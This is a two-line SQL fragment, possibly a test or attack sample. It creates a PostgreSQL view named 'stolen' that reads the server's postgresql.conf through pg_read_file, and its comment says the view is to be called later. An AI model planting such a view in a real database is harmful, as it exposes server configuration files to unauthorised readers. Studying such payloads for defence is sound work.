-- In a view, to be called later.
CREATE VIEW public.stolen AS SELECT pg_read_file('postgresql.conf') AS t
